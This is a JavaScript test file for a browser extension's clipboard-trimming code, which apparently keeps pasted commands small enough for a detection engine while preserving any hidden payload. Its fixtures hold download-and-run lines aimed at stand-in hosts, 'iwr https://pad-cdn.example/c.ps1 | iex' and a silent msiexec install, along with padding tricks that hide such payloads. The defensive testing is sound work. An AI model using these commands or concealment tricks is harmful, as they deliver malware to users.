// The background's `clipText` (extension/background/clip_text.js): what a page put on the
// clipboard, brought within the engine's 4 KB (UTF-8) so a padded command keeps its payload.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { clipText, boundClipboard } from '../../extension/background/clip_text.js';

const bytes = (s) => Buffer.byteLength(s, 'utf8');
const PAYLOAD = '-w h -c "iwr https://pad-cdn.example/c.ps1 | iex"';
// Filler that is no blank and no run of one character: invisible tag characters spelling a text,
// and prose, as a comment (`<# … #>`) PowerShell skips.
const tags = (n) => [...'the quick brown fox jumps over the lazy dog '.repeat(Math.ceil(n / 44))].slice(0, n)
  .map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
const prose = (n) => 'Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore. '
  .repeat(Math.ceil(n / 100)).slice(0, n);

test('a short command is passed unchanged', () => {
  const cmd = 'powershell -w h -c "iwr https://x.example/a | iex"' + ' '.repeat(300) + '# I am not a robot';
  assert.equal(clipText(cmd), cmd);
});

for (const [name, pad] of [['spaces', ' '], ['ideographic spaces', '\u3000'], ['Braille blanks', '\u2800'], ['tabs and NBSP', '\t\u00a0']]) {
  test(`powershell + 5,000 ${name} + the payload: the payload is read, the padding still reads as padding`, () => {
    const out = clipText('powershell' + pad.repeat(5000) + PAYLOAD);
    assert.ok(out.endsWith(PAYLOAD), out.slice(-80));
    assert.ok(bytes(out) <= 4096, `${bytes(out)} bytes`);
    // The engine reads 80 blanks between two parts as padding: the run is cut, not removed.
    assert.ok(out.length - 'powershell'.length - PAYLOAD.length >= 100);
  });
}

test('padding of one character that is no blank: cut to a run of 128, the whole command kept, no half pair', () => {
  for (const filler of ['\u{E0020}', 'x', '\u00e9', '\u20ac']) {
    const out = clipText('powershell' + filler.repeat(9000) + PAYLOAD);
    assert.equal(out, 'powershell' + filler.repeat(128) + PAYLOAD, JSON.stringify(filler));
    assert.ok(out.isWellFormed(), 'a lone surrogate at a cut');
  }
});

// Review 39 C-L1: a payload between two fillers that are neither blanks nor one character
// repeated (the MAIN world's head and tail lost it).
for (const [name, fill] of [['tag characters', tags], ['prose', prose]]) {
  test(`a payload in the middle of ${name} on both sides is kept, within 4 KB, no half pair`, () => {
    const out = clipText(`powershell <#${fill(3000)}#> ${PAYLOAD} <#${fill(3000)}#>`);
    assert.ok(out.includes(PAYLOAD), out.slice(0, 200));
    assert.ok(out.startsWith('powershell <#'));
    assert.ok(bytes(out) <= 4096, `${bytes(out)} bytes`);
    assert.ok(out.isWellFormed(), 'a lone surrogate at a cut');
  });
}

test('the middle is read by its command words: decoy words in the filler do not push the payload out', () => {
  // Each decoy block names one program; the payload's block names several.
  const decoys = Array.from({ length: 60 }, (_, i) => `${prose(90)} start ${i} `).join('');
  const out = clipText(`powershell <#${decoys}#> ${PAYLOAD} <#${decoys}#>`);
  assert.ok(out.includes(PAYLOAD), out);
  assert.ok(bytes(out) <= 4096);
});

test('a long text with no command word in its middle keeps its first and last 2 KB', () => {
  const out = clipText('a' + prose(9000).replace(/[a-z]/g, (c) => (c === 's' ? 'q' : c)) + 'z');
  assert.ok(out.startsWith('a') && out.endsWith('z'));
  assert.ok(bytes(out) > 4000 && bytes(out) <= 4096, `${bytes(out)} bytes`);
});

test('a huge text is read from its first and last 64 K units only, in bounded time', () => {
  const t0 = performance.now();
  const out = clipText('powershell ' + 'ab'.repeat(2_500_000) + PAYLOAD);
  assert.ok(out.startsWith('powershell ') && out.endsWith(PAYLOAD));
  assert.ok(bytes(out) <= 4096);
  const words = clipText('powershell ' + 'cmd iex '.repeat(40_000) + PAYLOAD);
  assert.ok(bytes(words) <= 4096 && words.endsWith(PAYLOAD));
  assert.ok(performance.now() - t0 < 2000, `${performance.now() - t0} ms`);
});

test("a snapshot's copy is bounded in place; anything else is left alone", () => {
  const snap = { clipboard: { text: 'powershell' + ' '.repeat(5000) + PAYLOAD, via: 'writeText' } };
  boundClipboard(snap);
  assert.ok(snap.clipboard.text.endsWith(PAYLOAD) && bytes(snap.clipboard.text) <= 4096);
  const none = { text: 'page' };
  boundClipboard(none);
  assert.deepEqual(none, { text: 'page' });
  const odd = { clipboard: { text: 42, via: 'x' } };
  boundClipboard(odd);
  assert.equal(odd.clipboard.text, '');
});

// The MAIN world's cut (extension/content/main_world.js, the block between `// <squeeze>` marks),
// run here with the captured functions it uses.
const mainWorld = readFileSync(new URL('../../extension/content/main_world.js', import.meta.url), 'utf8');
const block = mainWorld.slice(mainWorld.indexOf('// <squeeze>'), mainWorld.indexOf('// </squeeze>'));
const { squeeze, scanned, BLANK_KEEP, CLIP_READ, PERIOD } = new Function('apply', 'strSlice', 'strCode', 'CLIP_SCAN',
  `${block}\nreturn { squeeze, scanned, BLANK_KEEP, CLIP_READ, PERIOD };`)(Reflect.apply, String.prototype.slice, String.prototype.charCodeAt, 65536);

test("the MAIN world's blanks are clip_text.js's, every UTF-16 unit", () => {
  const src = readFileSync(new URL('../../extension/background/clip_text.js', import.meta.url), 'utf8');
  const blanks = new RegExp(`^[${new Function(`return ${src.match(/const BLANKS = ('[^']+');/)[1]}`)()}]$`);
  let checked = 0;
  for (let c = 0; c < 0x10000; c++) {
    const ch = String.fromCharCode(c);
    // (Every other unit one of 33 blanks in turn: no chunk of PERIOD units or fewer repeats.)
    let run = '';
    for (let k = 0; k < BLANK_KEEP + 2; k++) run += k % 2 ? String.fromCharCode((k >> 1) % 33) : ch;
    const out = squeeze(`x${run}y`, 0, run.length + 2);
    assert.equal(out.length === BLANK_KEEP + 2, blanks.test(ch), `U+${c.toString(16)}`);
    checked++;
  }
  assert.equal(checked, 0x10000);
});

test('a payload between two blank fillers of 70 K units each reaches the background (review 40 CF40-M2)', () => {
  const cmd = `powershell ${PAYLOAD}`;
  const text = ' '.repeat(70_000) + cmd + '\u3000'.repeat(70_000);
  // (The first and last 64 K units alone hold only blanks.)
  assert.ok(!`${text.slice(0, 65536)}${text.slice(-65536)}`.includes('iwr'));
  const out = scanned(text);
  assert.ok(out.length <= 2 * 65536 + 1 && out.includes(cmd), `${out.length}`);
  assert.ok(clipText(out).includes(cmd));
  // A shorter text is passed as it is; a huge one is read at CLIP_READ units from each end.
  assert.equal(scanned(cmd + ' '.repeat(1000)), cmd + ' '.repeat(1000));
  // (No unit equal to one of the PERIOD before it: every unit is compared PERIOD times.)
  const units = new Uint16Array(4 * CLIP_READ).map((_, i) => 0x4e00 + ((i * 7919) % 20000));
  const varied = new TextDecoder('utf-16le').decode(units);
  const t0 = performance.now();
  const huge = scanned(varied);
  assert.ok(huge.length <= 2 * 65536 + 1 && huge.length > 2 * 58000, `${huge.length}`);
  assert.ok(performance.now() - t0 < 2000, `${performance.now() - t0} ms`);
  // Blanks of fewer than BLANK_KEEP units stay; a longer run keeps BLANK_KEEP.
  assert.equal(squeeze(`a${' '.repeat(300)}b${'\t'.repeat(20)}c`, 0, 323), `a${' '.repeat(BLANK_KEEP)}b${'\t'.repeat(20)}c`);
});

test('a payload between two fillers of one unit or one chunk repeated reaches the background (review 42 CF42-M3)', () => {
  const cmd = `powershell ${PAYLOAD}`;
  // (`<##>`: each unit's nearest equal one is not a chunk away, the length is found in turn.)
  for (const fill of ['#', '\u{E0041}', '<#wait#>', '<##>', '~ please hold on ~\n']) {
    const pad = fill.repeat(Math.ceil(70_000 / fill.length));
    const text = `${pad}\n${cmd}\n${pad}`;
    assert.ok(!`${text.slice(0, 65536)}${text.slice(-65536)}`.includes('iwr'), fill);
    const out = scanned(text);
    assert.ok(out.length < 4 * (BLANK_KEEP + 32 * PERIOD) && out.includes(cmd), `${JSON.stringify(fill)} ${out.length}`);
    assert.ok(clipText(out).includes(cmd), fill);
  }
  // One unit repeated is kept to BLANK_KEEP units past the first; shorter repeats stay whole,
  // and a chunk longer than PERIOD units is not read as one.
  assert.equal(squeeze(`x${'#'.repeat(300)}y`, 0, 302), `x${'#'.repeat(BLANK_KEEP + 1)}y`);
  const ab = `x${'ab'.repeat(50)}y`;
  assert.equal(squeeze(ab, 0, ab.length), ab);
  const long = [...Array(PERIOD + 1)].map((_, i) => String.fromCharCode(0x3041 + i)).join('');
  const longs = long.repeat(8);
  assert.equal(squeeze(longs, 0, longs.length), longs);
  // The one-unit and the blank cut agree with the background's.
  const hashes = `a${'#'.repeat(300)}b`;
  assert.equal(clipText(squeeze(hashes, 0, hashes.length) + 'x'.repeat(5000)).slice(0, 140), clipText(hashes + 'x'.repeat(5000)).slice(0, 140));
});

// Review 43 CF43-M1: fillers the squeeze cannot cut (lines that differ by a counter, a chunk
// longer than PERIOD units): the middle's blocks with the most distinct command words are kept.
test('a payload between two fillers of numbered or long lines reaches the background (forty-fourth session)', () => {
  const cmd = `powershell ${PAYLOAD}`;
  const numbered = (n, f) => Array.from({ length: n }, (_, i) => f(String(i + 1).padStart(6, '0'))).join('\n');
  const fills = [
    numbered(7000, (i) => `:: ${i} done`),
    numbered(6000, (i) => `<# Schritt ${i} geprüft #>`),
    // a line of 45 units, then the same line again: no chunk of PERIOD units or fewer repeats
    '\n# - - - integrity of the local cache is fine - - -'.repeat(1700),
    // decoys: every line names one program; the payload's block names several
    numbered(6000, (i) => `rem cmd ${i}`),
  ];
  for (const fill of fills) {
    const text = `${fill}\n${cmd}\n${fill}`;
    assert.ok(text.length > 140_000 && !`${text.slice(0, 65536)}${text.slice(-65536)}`.includes('iwr'), fill.slice(0, 30));
    const out = scanned(text);
    assert.ok(out.length <= 2 * 65536 + 1 && out.includes(cmd), `${fill.slice(0, 30)} ${out.length}`);
    assert.ok(out.startsWith(fill.slice(0, 1000)) && out.endsWith(fill.slice(-1000)));
    assert.ok(clipText(out).includes(cmd), fill.slice(0, 30));
  }
  // After a cut run of a chunk, the line break before the payload stays: it is not joined to
  // a `#` comment line.
  const hashed = `# 1\n${'# ##########\n'.repeat(500)}msiexec /q /i https://pad-cdn.example/p.msi\n${'# ##########\n'.repeat(500)}`;
  assert.match(squeeze(hashed, 0, hashed.length), /#\nmsiexec \/q/);
  // Bounded: 10 M units dense with command words, and varied text with none.
  const t0 = performance.now();
  const dense = scanned('iex iwr cmd '.repeat(900_000));
  assert.ok(dense.length <= 2 * 65536 + 1, `${dense.length}`);
  const none = scanned(numbered(60_000, (i) => `ok ${i}`));
  assert.ok(none.length <= 2 * 65536 + 1 && !none.includes('iwr'));
  assert.ok(performance.now() - t0 < 2000, `${performance.now() - t0} ms`);
});
